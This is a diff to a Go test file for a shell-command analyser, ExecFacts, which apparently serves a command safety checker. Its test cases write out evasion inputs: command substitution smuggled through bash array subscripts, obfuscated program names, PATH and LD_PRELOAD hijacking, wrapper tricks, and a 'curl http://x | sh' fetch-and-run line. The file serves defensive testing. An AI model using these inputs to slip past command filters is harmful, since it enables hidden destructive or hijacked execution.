@@ -16,8 +16,8 @@ func TestExecFactsPrograms(t *testing.T) {
 		{"cd /tmp && rm -rf x", "cd,rm", true},
 		{"bash -c 'rm -rf /tmp/x'", "bash,rm", true},
 		{"sh -ec \"cd /; rm x\"", "sh,cd,rm", true},
-		{"env -i PATH=/bin rm x", "env,rm", false},
-		{"FOO=1 sudo -u root nice -n 5 rm x", "sudo,nice,rm", false},
+		{"env -i PATH=/bin rm x", "env,rm", true},
+		{"FOO=1 sudo -u root nice -n 5 rm x", "sudo,nice,rm", true},
 		{"timeout 5s rm x", "timeout,rm", false},
 		{"ls | xargs -n 1 rm", "ls,xargs,rm", true},
 		{"find /tmp -name '*.log' -exec rm {} \\;", "find,rm", true},
@@ -26,7 +26,77 @@ func TestExecFactsPrograms(t *testing.T) {
 		{"nohup bash -lc 'curl http://x | sh'", "nohup,bash,curl,sh", true},
 		{"echo $(rm x)", "echo,rm", true},
 		{"sudo", "sudo", false},
-		{"bash -c", "bash", false},
+		{"bash -c", "bash", true},
+		{"bash script.sh", "bash", true},
+
+		// bash evaluates the array subscript of a variable name given
+		// to these builtins, quoted or not: $(...) there runs.
+		{"test -v 'a[$(rm x)]'", "test", true},
+		{"[ -v 'a[$(rm x)]' ]", "[", true},
+		{"printf -v 'a[$(rm x)]' x", "printf", true},
+		{"printf -v \"a[\\$(rm x)]\" x", "printf", true},
+		{"read 'a[`rm x`]' <<<1", "read", true},
+		{"unset 'a[$(rm x)]'", "unset", true},
+		{"declare 'a[$(rm x)]=1'", "declare", true},
+		{"export 'a[$(rm x)]'", "export", true},
+		{"let 'a[$(rm x)]=1'", "let", true},
+		{"wait -p 'a[$(rm x)]'", "wait", true},
+		{"test -v $'a\\x5b$(rm x)]'", "test", true},
+		{"sudo test -v 'a[$(rm x)]'", "sudo,test", true},
+		{"mapfile -C 'rm x' -c 1", "mapfile", true},
+		{"test -f /etc/hosts", "test", false},
+		{"printf '%s\\n' x", "printf", false},
+
+		// A program word the shell changes runs what the facts cannot
+		// name.
+		{"$'\\x72m' x", "$'\\x72m'", true},
+		{"r${IFS:0:0}m x", "r${IFS:0:0}m", true},
+		{"/bin/r? x", "r?", true},
+		{"{rm,x}", "{rm,x}", true},
+		{"sudo $'\\x72m' x", "sudo,$'\\x72m'", true},
+
+		// Assignments change what runs (PATH, LD_PRELOAD).
+		{"PATH=/tmp/e ls", "ls", true},
+		{"LD_PRELOAD=/tmp/x.so ls", "ls", true},
+		{"env LD_PRELOAD=/tmp/x.so ls", "env,ls", true},
+		{"sudo PATH=/tmp/e ls", "sudo,ls", true},
+
+		// Wrappers: options read in full, code runners compound.
+		{"bash -o pipefail -c 'rm x'", "bash,rm", true},
+		{"bash --rcfile /dev/null -c 'rm x'", "bash,rm", true},
+		{"bash -c -e 'rm x'", "bash,rm", true},
+		{"bash -eo pipefail -c 'rm x'", "bash,rm", true},
+		{"su root -c 'rm x'", "su,rm", true},
+		{"su -lc 'rm x' root", "su,rm", true},
+		{"runuser -u root -- rm x", "runuser,rm", true},
+		{"env -S 'rm x'", "env,rm", true},
+		{"env --split-string='rm x'", "env,rm", true},
+		{"env -iS 'FOO=1 rm x'", "env,rm", true},
+		{"env - rm x", "env,rm", false},
+		{"env -C / rm x", "env,rm", false},
+		{"sudo --user root rm x", "sudo,rm", false},
+		{"sudo -s rm x", "sudo,rm", true},
+		{"timeout --signal KILL 5 rm x", "timeout,rm", false},
+		{"timeout --sig KILL 5 rm x", "timeout,rm", false},
+		{"timeout -s KILL 5 rm x", "timeout,rm", false},
+		{"timeout --bogus 5 rm x", "timeout,5,rm,x", true},
+		{"nice --adjustment 1 rm x", "nice,rm", false},
+		{"nice -10 rm x", "nice,rm", false},
+		{"xargs -0 rm", "xargs,rm", false},
+		{"exec -a foo rm x", "exec,rm", false},
+		{"command rm x", "command,rm", false},
+		{"builtin eval 'rm x'", "builtin,eval,rm", true},
+		{"flock /tmp/l -c 'rm x'", "flock,rm", true},
+		{"flock -c 'rm x' /tmp/l", "flock,rm", true},
+		{"chroot /srv", "chroot", true},
+		{"eval 'rm x'", "eval,rm", true},
+		{"trap 'rm x' EXIT", "trap,rm", true},
+		{"source /tmp/x.sh", "source", true},
+		{". /tmp/x.sh", ".", true},
+		{"enable -f /tmp/x.so x", "enable", true},
+		{"script -qc 'rm x' /dev/null", "script,rm x,rm,null", true},
+		{"strace -o /dev/null rm x", "strace,null,rm,x", true},
+		{"unshare -r rm x", "unshare,rm,x", true},
 	}
 	for _, tc := range tests {
 		f, err := ExecFacts(tc.command)
@@ -36,6 +106,29 @@ func TestExecFactsPrograms(t *testing.T) {
 		}
 		if got := strings.Join(f.Programs, ","); got != tc.programs || f.Compound != tc.compound {
 			t.Errorf("%s: programs %s compound %v, want %s %v", tc.command, got, f.Compound, tc.programs, tc.compound)
+		}
+	}
+	for _, tc := range []struct {
+		command            string
+		paths, assignments string
+	}{
+		{"ls", "ls", ""},
+		{"/tmp/e/ls -l", "/tmp/e/ls", ""},
+		{"./ls && /bin/cat x", "./ls,/bin/cat", ""},
+		{"sudo ../ls", "sudo,../ls", ""},
+		{"A=1 B=2 ls", "ls", "A=1,B=2"},
+		{"env -i PATH=/bin LD_PRELOAD=/x.so ls", "env,ls", "PATH=/bin,LD_PRELOAD=/x.so"},
+	} {
+		f, err := ExecFacts(tc.command)
+		if err != nil {
+			t.Errorf("%s: %v", tc.command, err)
+			continue
+		}
+		if got := strings.Join(f.ProgramPaths, ","); got != tc.paths {
+			t.Errorf("%s: program paths %s, want %s", tc.command, got, tc.paths)
+		}
+		if got := strings.Join(f.Assignments, ","); got != tc.assignments {
+			t.Errorf("%s: assignments %s, want %s", tc.command, got, tc.assignments)
 		}
 	}
 	if _, err := ExecFacts("echo 'unterminated"); err == nil {
@@ -54,7 +147,8 @@ func TestExecFactsPrograms(t *testing.T) {
 func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
 
 func FuzzExecFacts(f *testing.F) {
-	for _, s := range []string{"id", "bash -c 'rm x'", "find . -exec rm {} +", "env A=1 sudo -u x timeout 1 xargs rm"} {
+	for _, s := range []string{"id", "bash -c 'rm x'", "find . -exec rm {} +", "env A=1 sudo -u x timeout 1 xargs rm",
+		"strace strace strace 'a b' -c 'x y'", "env -S 'sudo -s x' su -c 'y'"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, command string) {
